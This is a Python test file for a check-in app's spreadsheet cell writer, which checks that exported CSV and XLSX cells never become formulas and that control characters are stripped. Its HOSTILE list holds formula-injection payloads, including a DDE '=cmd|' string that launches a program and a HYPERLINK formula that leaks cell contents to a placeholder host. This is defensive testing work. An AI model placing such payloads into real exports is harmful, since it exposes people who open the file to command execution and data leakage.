"""The one writer of spreadsheet cells: never a formula, never a control character, numbers kept."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from checkin_app import cells

HOSTILE = ['=HYPERLINK("http://x"&B2,"点我")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@A1", "\t=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_text_that_would_start_a_formula_gets_an_apostrophe(text: str) -> None:
    assert cells.csv_cell(text) == "'" + text


def test_csv_numbers_stay_numbers_and_text_stays_text() -> None:
    assert cells.csv_cell(-3) == "-3"  # a negative count is a number
    assert cells.csv_cell(2.5) == "2.5"
    assert cells.csv_cell("-3") == "'-3"  # text that looks like one is not
    assert cells.csv_cell("张伟") == "张伟"
    assert cells.csv_cell(None) == ""
    assert cells.csv_cell(dt.date(2025, 9, 24)) == "2025-09-24"
    assert cells.csv_cell("\r=1+1") == "'\n=1+1"  # a CR is a line break, still behind the mark
    assert cells.csv_cell("a\x00b\u202ec") == "abc"
    assert cells.csv_cell(" \n@SUM(A1)") == "' \n@SUM(A1)"  # blanks first change nothing


def test_control_characters() -> None:
    text = "a\x00\x07\x1b\x7f\x85\x9f\u202a\u202e\u2066\u2069\ufeff\ud800\ufffe\uffff\U0010ffffb"
    assert cells.has_controls(text)
    assert cells.strip_controls(text) == "ab"
    assert cells.strip_controls("一\t二\r\n三\r四") == "一\t二\n三\n四"  # tab and lines stay
    assert not cells.has_controls("张伟 13800000000 〇𠀀")


def test_xlsx_cells(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cells.write_rows(
        sheet, [["姓名", "人数", "日期"], *[[t, -3, dt.date(2025, 1, 2)] for t in HOSTILE]]
    )
    cells.put(sheet, 9, 1, "#N/A\x01")
    out = tmp_path / "t.xlsx"
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml
    read = load_workbook(out)["Sheet"]
    for n, text in enumerate(HOSTILE, start=2):
        cell = read.cell(n, 1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        assert (read.cell(n, 2).value, read.cell(n, 2).data_type) == (-3, "n")
        assert read.cell(n, 3).value == dt.datetime(2025, 1, 2)
    assert not read.cell(1, 1).quotePrefix  # plain text needs no mark
    assert (read.cell(9, 1).value, read.cell(9, 1).data_type) == ("#N/A", "s")  # not an error


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
def test_any_text_is_written_as_text(texts: list[str]) -> None:
    """Whatever a name holds (controls, surrogates, formula starts), the save succeeds, no cell
    is a formula, and what reads back is the text without its control characters."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    cells.write_rows(sheet, [[t] for t in texts])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(out) as archive:
        assert not re.search(rb"<f[ >/]", archive.read("xl/worksheets/sheet1.xml"))
    read = load_workbook(io.BytesIO(out.getvalue()))["Sheet"]
    for n, text in enumerate(texts, start=1):
        cell = read.cell(n, 1)
        expected = cells.strip_controls(text)
        assert (cell.value or "") == expected
        assert cell.data_type != "f" and (cell.value is None or cell.data_type == "s")
        assert bool(cell.quotePrefix) == (bool(expected) and cells.starts_formula(expected))
